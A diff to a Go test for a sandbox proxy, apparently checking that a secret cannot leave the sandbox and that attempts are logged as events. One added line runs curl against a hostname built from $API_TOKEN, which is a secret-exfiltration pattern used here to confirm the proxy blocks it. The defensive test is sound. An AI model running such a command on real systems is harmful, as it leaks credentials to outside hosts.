@@ -255,6 +255,20 @@ func TestSecrets(t *testing.T) {
 	hc := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
 		return (&net.Dialer{}).DialContext(ctx, "unix", filepath.Join(home, "paddock.sock"))
 	}}}
+	// A host made of the secret (refused by the proxy: no network is
+	// reached), and an access request that quotes it: both are stored.
+	cli(t, home, "exec", id, "--net", "allow=example.com", "--", "sh", "-c", `curl -m 5 -s "http://$API_TOKEN.example.org/" >/dev/null; true`).must(t)
+	body := `{"kind":"command","command":["curl","` + value + `"],"reason":"to reach ` + value + `"}`
+	if resp, err := hc.Post("http://paddock/v1/runs/"+id+"/requests", "application/json", strings.NewReader(body)); err != nil {
+		t.Fatal(err)
+	} else {
+		b, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		if resp.StatusCode != http.StatusCreated {
+			t.Fatalf("access request: %d %s", resp.StatusCode, b)
+		}
+		answers.Write(b)
+	}
 	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
 	defer cancel()
 	req, _ := http.NewRequestWithContext(ctx, "GET", "http://paddock/v1/runs/"+id+"/events/stream", nil)
@@ -263,7 +277,7 @@ func TestSecrets(t *testing.T) {
 	} else {
 		sse, _ := io.ReadAll(resp.Body) // until the timeout
 		resp.Body.Close()
-		if !strings.Contains(string(sse), `"type":"exec"`) {
+		if !strings.Contains(string(sse), `"type":"exec"`) || !strings.Contains(string(sse), "network.connection") || !strings.Contains(string(sse), "access.requested") {
 			t.Fatalf("the event stream: %s", sse)
 		}
 		answers.Write(sse)
